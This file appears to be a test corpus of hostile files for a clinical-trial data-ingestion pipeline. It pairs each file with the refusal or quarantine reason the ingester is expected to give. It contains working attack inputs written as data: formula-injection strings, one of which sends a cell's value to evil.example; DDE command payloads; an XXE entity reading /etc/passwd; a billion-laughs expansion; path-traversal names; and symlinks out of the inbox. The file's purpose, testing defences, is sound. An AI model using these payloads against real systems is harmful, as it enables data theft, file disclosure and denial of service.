"""A corpus of hostile inbox entries, each with the outcome a site coordinator must see.

Every case writes its own file(s) into a real inbox folder; `build_inbox` writes them all
(plus the files outside the inbox that links point to), so one real ingestion exercises the
whole corpus at once, and a bad file is also shown not to stop the good ones.

Expected outcomes:
- `refused`: the manifest reason matches `reason` (a regular expression over English a person
  reads; it names the problem, and the line, column or value where there is one);
- `loaded`: the counts are given; quarantined rows carry a reason matching `reason`.
"""
from __future__ import annotations

import codecs
import csv
import io
import os
import random
import zipfile
from dataclasses import dataclass
from datetime import date, timedelta
from pathlib import Path
from typing import Callable

import openpyxl

from sources.domains import DOMAINS
from tests.hostile import xlsx_parts
from tests.sources.conftest import csv_bytes

REGISTRY_YAML = """\
sites:
  BJH:
    name: Beijing test hospital (UTF-8 exports)
    encoding: utf-8
  SHX:
    name: Shanghai test hospital (GB18030 exports)
    encoding: gb18030
"""

# Content of the files outside the inbox that links point to. If any of it is ever read, these
# markers end up in the warehouse: the outside file is a perfectly valid export.
OUTSIDE_MARKER = "OUTSIDE-INBOX-7F3A9C"
XXE_MARKER = "XXE-ENTITY-5B21D0"
EXTRA_COLUMN_MARKER = "DROPPED-CELL-91C4E2"

FIRST_EXPORT = date(2021, 4, 1)

BLEEDING = DOMAINS["bleeding"].spec_columns
CONMEDS = DOMAINS["conmeds"].spec_columns
AES = DOMAINS["adverse_events"].spec_columns
DOSING = DOMAINS["dosing"].spec_columns


def quoted_csv(header: list[str], rows: list[list[str]], encoding: str = "utf-8") -> bytes:
    """CSV as Excel writes it: values with quotes, delimiters or line breaks are quoted."""
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows([header] + rows)
    return out.getvalue().encode(encoding)


def bleeding_rows(site: str, n: int, first: int = 1) -> list[list[str]]:
    return [[site, f"{site}-{i:03d}", "2021-03-01", str(i % 5)] for i in range(first, first + n)]


def ae_row(site: str, subject: int, term: str) -> list[str]:
    return [site, f"{site}-{subject:03d}", term, "2021-03-05", "", "1", "N", "Y"]


@dataclass(frozen=True)
class Case:
    """One hostile entry. `write(path)` creates it at `inbox / rel_path`; `outside` is the folder
    beside the inbox that holds link targets."""
    name: str
    rel_path: str
    write: Callable[[Path, Path], None]
    status: str                      # refused | loaded | held
    reason: str = ""                 # regex: the manifest reason (refused) or quarantine reasons
    rows_read: int | None = None
    accepted: int | None = None
    quarantined: int | None = None
    unread: bool = False             # refused without ever being opened (links, FIFOs)
    dropped: str = ""                # regex: the manifest's dropped_columns


def _bytes(content: bytes) -> Callable[[Path, Path], None]:
    def write(path: Path, outside: Path) -> None:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
    return write


def _link(target: Callable[[Path, Path], Path]) -> Callable[[Path, Path], None]:
    def write(path: Path, outside: Path) -> None:
        path.parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target(path, outside), path)
    return write


def _fifo(path: Path, outside: Path) -> None:
    os.mkfifo(path)


def _zip_not_workbook(path: Path, outside: Path) -> None:
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("report.csv", "site_id,subject_id\nBJH,BJH-001\n")


def _xlsx(rows: list[list[object]]) -> Callable[[Path, Path], None]:
    """openpyxl writes a text starting with '=' as a formula: that is how sites make them too."""
    def write(path: Path, outside: Path) -> None:
        wb = openpyxl.Workbook()
        for row in rows:
            wb.active.append(row)
        wb.save(path)
    return write


def _sheet(rows: str, **kw: str) -> Callable[[Path, Path], None]:
    def write(path: Path, outside: Path) -> None:
        xlsx_parts.write_workbook(path, xlsx_parts.sheet_xml(rows, **kw))
    return write


def _xxe(path: Path, outside: Path) -> None:
    """A sheet whose cells are external entities: /etc/passwd and a marker file outside."""
    doctype = (f'<!DOCTYPE worksheet [<!ENTITY passwd SYSTEM "file:///etc/passwd">'
               f'<!ENTITY marker SYSTEM "file://{outside / "xxe.txt"}">]>')
    rows = (xlsx_parts.text_row(1, BLEEDING)
            + '<row r="2"><c r="A2" t="inlineStr"><is><t>&passwd;</t></is></c>'
              '<c r="B2" t="inlineStr"><is><t>&marker;</t></is></c></row>')
    xlsx_parts.write_workbook(path, xlsx_parts.sheet_xml(rows, doctype=doctype))


def _entity_expansion(path: Path, outside: Path) -> None:
    """'Billion laughs': ten levels of ten references expand to 10^10 characters."""
    levels = ['<!ENTITY l0 "ha">'] + [f'<!ENTITY l{i} "{("&l%d;" % (i - 1)) * 10}">' for i in range(1, 11)]
    doctype = f"<!DOCTYPE worksheet [{''.join(levels)}]>"
    rows = xlsx_parts.text_row(1, BLEEDING) + '<row r="2"><c r="A2" t="inlineStr"><is><t>&l10;</t></is></c></row>'
    xlsx_parts.write_workbook(path, xlsx_parts.sheet_xml(rows, doctype=doctype))


def _million_rows(path: Path, outside: Path) -> None:
    """Header, one good row, then nothing until row 1,000,000 (and a dimension claiming the
    whole sheet): a reader must neither give up nor trust the dimension."""
    rows = (xlsx_parts.text_row(1, BLEEDING) + xlsx_parts.text_row(2, ["BJH", "BJH-001", "2021-03-01", "1"])
            + xlsx_parts.text_row(1_000_000, ["BJH", "BJH-002"]))
    xlsx_parts.write_workbook(path, xlsx_parts.sheet_xml(rows, dimension="A1:XFD1048576"))


def _million_empty_rows_no_header(path: Path, outside: Path) -> None:
    xlsx_parts.write_workbook(path, xlsx_parts.sheet_xml(xlsx_parts.text_row(1_000_000, BLEEDING)))


def _wide(path: Path, outside: Path) -> None:
    """10,000 columns: the 4 of the spec, then 9,996 columns a site added (never stored)."""
    extra = [f"extra_{i}" for i in range(9_996)]
    rows = [cells + [f"{EXTRA_COLUMN_MARKER}-{i}" for i in range(9_996)] for cells in bleeding_rows("BJH", 3)]
    path.write_bytes(csv_bytes(BLEEDING + extra, rows))


def _concatenated(path: Path, outside: Path) -> None:
    """Two exports joined with `cat`: the second one's byte-order mark lands mid-file."""
    one = b"\xef\xbb\xbf" + csv_bytes(BLEEDING, bleeding_rows("BJH", 2))
    two = b"\xef\xbb\xbf" + csv_bytes(BLEEDING, bleeding_rows("BJH", 2, first=3))
    path.write_bytes(one + two)


def _truncated(term: str, cut_in: str) -> Callable[[Path, Path], None]:
    """A valid export cut in the middle of its last row, after the first byte of `cut_in`."""
    def write(path: Path, outside: Path) -> None:
        content = csv_bytes(AES, [ae_row("BJH", 1, "Headache"), ae_row("BJH", 2, term)])
        path.write_bytes(content[:content.rindex(cut_in.encode()) + 1])
    return write


def _garbage(seed: int, size: int) -> bytes:
    return random.Random(seed).randbytes(size)


def outside_export() -> bytes:
    """A VALID bleeding export: reading it through a link would load it."""
    return csv_bytes(BLEEDING, [["BJH", OUTSIDE_MARKER, "2021-03-01", "1"]])


def write_outside(outside: Path) -> None:
    outside.mkdir(parents=True, exist_ok=True)
    (outside / "BJH_bleeding_20210401.csv").write_bytes(outside_export())
    (outside / "xxe.txt").write_text(XXE_MARKER)
    (outside / "folder").mkdir(exist_ok=True)
    (outside / "folder" / "BJH_bleeding_20210402.csv").write_bytes(outside_export())


def _day(i: int) -> str:
    return f"{FIRST_EXPORT + timedelta(days=i):%Y%m%d}"


FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A2,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", '=1+1']

DEEP_FOLDER = "/".join(["d" * 200] * 15)
LONG_NAME = "BJH_" + "bleeding_" * 26 + f"{FIRST_EXPORT:%Y%m%d}.csv"

REFUSED_UNREAD = "not read"


def good(first: int) -> bytes:
    """A valid export of 3 rows; `first` makes its bytes differ from every other case's."""
    return csv_bytes(BLEEDING, bleeding_rows("BJH", 3, first))


def cases() -> list[Case]:
    conmeds = quoted_csv(CONMEDS, [["BJH", f"BJH-{i:03d}", drug, "other", "2021-02-01", "", "", ""]
                                  for i, drug in enumerate(FORMULAS + ["Prednisone"], 1)])
    chinese_aes = [ae_row("SHX", 1, "头痛"), ae_row("SHX", 2, "皮疹和瘀斑"), ae_row("SHX", 3, "鼻出血，牙龈出血")]
    # UTF-8 text that also decodes as GB18030, into other characters: "头痛" -> "澶寸棝".
    mojibake_aes = [ae_row("SHX", 1, "头痛"), ae_row("SHX", 2, "发热"), ae_row("SHX", 3, "腹泻")]
    return [
        # --- a control: a bad neighbour never stops a good file ------------------------------
        Case("good file", f"BJH_bleeding_{_day(0)}.csv", _bytes(good(1)), "loaded", rows_read=3, accepted=3, quarantined=0),
        # --- files with no usable content ---------------------------------------------------
        Case("empty", f"BJH_bleeding_{_day(1)}.csv", _bytes(b""), "refused", r"the file is empty \(0 bytes\)"),
        Case("header only", f"BJH_adverse_events_{_day(2)}.csv", _bytes(csv_bytes(AES, [])), "loaded",
             rows_read=0, accepted=0, quarantined=0),
        Case("binary garbage as csv", f"BJH_bleeding_{_day(3)}.csv", _bytes(_garbage(1, 64_000)), "refused",
             r"not valid utf-8 text: byte\(s\) [0-9a-f ]+ at byte offset \d+ \(line 1\)"),
        Case("binary garbage as xlsx", f"BJH_bleeding_{_day(4)}.xlsx", _bytes(_garbage(2, 64_000)), "refused",
             r"not a valid xlsx workbook"),
        Case("NUL bytes", f"BJH_bleeding_{_day(5)}.csv",
             _bytes(csv_bytes(BLEEDING, bleeding_rows("BJH", 2)).replace(b"BJH-002", b"BJH\x00002")), "refused",
             r"NUL character \(line 3\)"),
        Case("UTF-16 text", f"BJH_bleeding_{_day(6)}.csv",
             _bytes(codecs.BOM_UTF16_LE + "\n".join(",".join(r) for r in [BLEEDING] + bleeding_rows("BJH", 2)).encode("utf-16-le")),
             "refused", r"UTF-16"),
        # --- cut and wrongly encoded files --------------------------------------------------
        # v1.2: a last line without its line break that is not a complete row: the file is held
        Case("truncated mid-row", f"BJH_adverse_events_{_day(7)}.csv", _truncated("Rash", "2021-03-05"), "held",
             r"column onset_date: \"2\" is not a valid date", rows_read=2, accepted=1, quarantined=1),
        Case("truncated mid multi-byte character", f"BJH_adverse_events_{_day(8)}.csv", _truncated("头痛", "头痛"),
             "refused", r"not valid utf-8 text: byte\(s\) e5 at byte offset \d+ \(line 3\)"),
        Case("GB18030 bytes for a UTF-8 site", f"BJH_adverse_events_{_day(9)}.csv",
             _bytes(csv_bytes(AES, [ae_row("BJH", 1, "头痛"), ae_row("BJH", 2, "皮疹")], encoding="gb18030")),
             # GB18030 "头痛" (cd b7 cd b4) is valid UTF-8 by chance; "皮疹" on line 3 is not
             "refused", r"not valid utf-8 text: byte\(s\) d5 .* \(line 3\)"),
        Case("UTF-8 bytes for a GB18030 site", f"SHX_adverse_events_{_day(10)}.csv",
             _bytes(csv_bytes(AES, mojibake_aes, encoding="utf-8")), "refused",
             r"the file is UTF-8 text, but the site's declared encoding is GB18030"),
        Case("UTF-8 bytes for a GB18030 site, not even GB18030", f"SHX_adverse_events_{_day(40)}.csv",
             _bytes(csv_bytes(AES, chinese_aes, encoding="utf-8")), "refused",
             r"the file is UTF-8 text, but the site's declared encoding is GB18030"),
        Case("GB18030 control for the GB18030 site", f"SHX_adverse_events_{_day(11)}.csv",
             _bytes(csv_bytes(AES, chinese_aes, encoding="gb18030")), "loaded", rows_read=3, accepted=3, quarantined=0),
        Case("byte-order mark mid-file", f"BJH_bleeding_{_day(12)}.csv", _concatenated, "refused",
             r"byte-order mark .* line 4.* joined"),
        Case("CRLF line endings", f"BJH_bleeding_{_day(13)}.csv",
             _bytes(csv_bytes(BLEEDING, bleeding_rows("BJH", 3)).replace(b"\n", b"\r\n")), "loaded",
             rows_read=3, accepted=3, quarantined=0),
        Case("CR-only line endings", f"BJH_bleeding_{_day(14)}.csv",
             _bytes(csv_bytes(BLEEDING, bleeding_rows("BJH", 3)).replace(b"\n", b"\r")), "loaded",
             rows_read=3, accepted=3, quarantined=0),
        Case("stray CR inside a value", f"BJH_bleeding_{_day(41)}.csv",
             _bytes(csv_bytes(BLEEDING, bleeding_rows("BJH", 3, 200)).replace(b"BJH-201", b"BJH\r-201")), "refused",
             r"line 3 has a line-break character \(CR\) inside a value that is not in quotes"),
        # --- malformed CSV structure --------------------------------------------------------
        Case("unbalanced quote", f"BJH_bleeding_{_day(15)}.csv",
             _bytes(csv_bytes(BLEEDING, bleeding_rows("BJH", 3)).replace(b"BJH-002", b'"BJH-002')), "refused",
             r"not well-formed CSV near line \d+.*quote"),
        Case("duplicate header columns", f"BJH_bleeding_{_day(16)}.csv",
             _bytes(csv_bytes(BLEEDING + ["Subject_ID "], [r + ["x"] for r in bleeding_rows("BJH", 2)])), "refused",
             r"duplicate columns: 'subject_id' \(column 2\) and 'Subject_ID' \(column 5\) are both subject_id"),
        Case("header with escape codes", f"BJH_bleeding_{_day(42)}.csv",
             _bytes(csv_bytes(BLEEDING + ["notes\x1b[2J\x1b[31m"], [r + ["x"] for r in bleeding_rows("BJH", 2, 300)])),
             "loaded", rows_read=2, accepted=2, quarantined=0, dropped=r"notes\\x1b\[2J\\x1b\[31m"),
        Case("header with escape codes, missing a column", f"BJH_bleeding_{_day(43)}.csv",
             _bytes(csv_bytes(BLEEDING[:3] + ["who\x07grade"], bleeding_rows("BJH", 2, 400))), "refused",
             r"required column\(s\) missing for bleeding: who_grade; headers found: .*who\\x07grade"),
        Case("10,000 columns", f"BJH_bleeding_{_day(17)}.csv", _wide, "loaded", rows_read=3, accepted=3, quarantined=0,
             dropped=r"extra_0, extra_1, (extra_\d+, ){9993}extra_9995"),
        Case("1 MB cell in csv", f"BJH_bleeding_{_day(18)}.csv",
             _bytes(csv_bytes(BLEEDING + ["notes"], [r + ["x" * 1_048_576] for r in bleeding_rows("BJH", 2)])),
             "refused", r"value near line 2 is longer than 131072 characters"),
        Case("1 MB cell in xlsx", f"BJH_adverse_events_{_day(19)}.xlsx",
             _sheet(xlsx_parts.text_row(1, AES) + xlsx_parts.text_row(2, ae_row("BJH", 1, "x" * 1_048_576))
                    + xlsx_parts.text_row(3, ae_row("BJH", 2, "Rash"))), "loaded",
             r"column ae_term: the value is 1048576 characters long", rows_read=2, accepted=1, quarantined=1),
        Case("formula injection in csv", f"BJH_conmeds_{_day(20)}.csv", _bytes(conmeds), "loaded",
             r"column drug_name: .* starts with \"[=+@-]\"", rows_read=6, accepted=1, quarantined=5),
        Case("formula cells in xlsx", f"BJH_adverse_events_{_day(21)}.xlsx",
             _xlsx([AES, ae_row("BJH", 1, "=HYPERLINK(\"http://evil.example\",\"x\")"),
                    ["BJH", "BJH-002", "Rash", "=TODAY()", "", "1", "N", "Y"], ae_row("BJH", 3, "Rash")]),
             "loaded", r"formula", rows_read=3, accepted=1, quarantined=2),
        Case("control characters in cells", f"BJH_adverse_events_{_day(22)}.csv",
             _bytes(csv_bytes(AES, [ae_row("BJH", 1, "Rash\x1b[2J\x1b[31mOK"), ae_row("BJH", 2, "Bell\x07")])),
             "loaded", r"control character \(U\+00(1B|07)\)", rows_read=2, accepted=0, quarantined=2),
        Case("absurdly large numbers", f"BJH_dosing_{_day(44)}.csv",
             _bytes(csv_bytes(DOSING, [["BJH", "BJH-001", "2021-03-01", "", "25", "99999999999"],
                                       ["BJH", "BJH-002", "2021-03-01", "", "1" * 400, "2"],
                                       ["BJH", "BJH-003", "2021-03-01", "", "25", "9" * 5000],
                                       ["BJH", "BJH-004", "2021-03-01", "", "25", "2"]])), "loaded",
             r"column (doses_per_day: \"9+(\.\.\. \(5000 characters\))?\" is outside the range of whole numbers"
             r"|dose_mg: \"1+\.\.\. \(400 characters\)\" is too large to be a measurement)",
             rows_read=4, accepted=1, quarantined=3),
        # --- not what the extension says ----------------------------------------------------
        Case("zip renamed .xlsx", f"BJH_bleeding_{_day(23)}.xlsx", _zip_not_workbook, "refused",
             r"not a valid xlsx workbook"),
        Case("text renamed .xlsx", f"BJH_bleeding_{_day(24)}.xlsx", _bytes(good(20)), "refused",
             r"not a valid xlsx workbook"),
        Case("xlsx with a million empty rows", f"BJH_bleeding_{_day(25)}.xlsx", _million_rows, "loaded",
             r"column assessment_date: a value is required", rows_read=2, accepted=1, quarantined=1),
        Case("xlsx whose first row is row 1,000,000", f"BJH_bleeding_{_day(26)}.xlsx", _million_empty_rows_no_header,
             "refused", r"the first row is empty"),
        Case("xlsx entity expansion (billion laughs)", f"BJH_bleeding_{_day(27)}.xlsx", _entity_expansion, "refused",
             r"first sheet cannot be read|not a valid xlsx workbook"),
        Case("xlsx external entities (XXE)", f"BJH_bleeding_{_day(28)}.xlsx", _xxe, "refused",
             r"first sheet cannot be read|not a valid xlsx workbook"),
        # --- names and paths ----------------------------------------------------------------
        Case("dot-dot name", f"..BJH_bleeding_{_day(29)}.csv", _bytes(good(30)), "refused", r"hidden file", unread=True),
        Case("dot-dot-backslash name", f"..\\..\\BJH_bleeding_{_day(30)}.csv", _bytes(good(40)), "refused",
             r"hidden file", unread=True),
        Case("dot-dot folder", f".../BJH_bleeding_{_day(31)}.csv", _bytes(good(50)), "refused", r"hidden file", unread=True),
        Case("name with a path inside", f"BJH_bleeding_{_day(32)}.csv\\..\\..\\etc\\passwd.csv", _bytes(good(60)),
             "refused", r"the export date .* is not 8 digits"),
        Case("name that is not UTF-8", os.fsdecode(b"BJH_bleeding_2021\xff0402.csv"), _bytes(good(70)), "refused",
             r"not UTF-8 text or control characters", unread=True),
        Case("name with a newline and escape codes", f"BJH_bleeding_{_day(33)}\n\x1b[31m.csv", _bytes(good(80)),
             "refused", r"not UTF-8 text or control characters", unread=True),
        Case("very long name", LONG_NAME, _bytes(good(90)), "refused", r"is not a domain"),
        Case("very deep path", f"{DEEP_FOLDER}/BJH_bleeding_{_day(34)}.csv", _bytes(good(100)), "loaded",
             rows_read=3, accepted=3, quarantined=0),
        # --- links and special files --------------------------------------------------------
        Case("link outside the inbox", f"BJH_bleeding_{_day(35)}.csv",
             _link(lambda p, out: out / "BJH_bleeding_20210401.csv"), "refused", r"outside the inbox: not read",
             unread=True),
        Case("relative ../ link", f"sub/BJH_bleeding_{_day(36)}.csv",
             _link(lambda p, out: Path(os.path.relpath(out / "BJH_bleeding_20210401.csv", p.parent))), "refused",
             r"outside the inbox: not read", unread=True),
        Case("link to /etc/passwd", f"BJH_subjects_{_day(37)}.csv", _link(lambda p, out: Path("/etc/passwd")),
             "refused", r"outside the inbox: not read", unread=True),
        Case("link to a link outside", f"BJH_bleeding_{_day(38)}.csv",
             _link(lambda p, out: p.parent / f"sub/BJH_bleeding_{_day(36)}.csv"), "refused",
             r"outside the inbox: not read", unread=True),
        Case("link to a folder outside", "linked", _link(lambda p, out: out / "folder"), "refused",
             r"links to folders are not followed", unread=True),
        Case("FIFO", f"BJH_bleeding_{_day(39)}.csv", _fifo, "refused", r"not a regular file", unread=True),
    ]


def build_inbox(root: Path) -> tuple[Path, Path, list[Case]]:
    """root/inbox with every case, root/outside with the link targets, root/sites.yaml."""
    inbox, outside = root / "inbox", root / "outside"
    inbox.mkdir(parents=True)
    write_outside(outside)
    corpus = cases()
    for case in corpus:
        path = inbox / case.rel_path
        path.parent.mkdir(parents=True, exist_ok=True)
        case.write(path, outside)
    (root / "sites.yaml").write_text(REGISTRY_YAML)
    return inbox, root / "sites.yaml", corpus
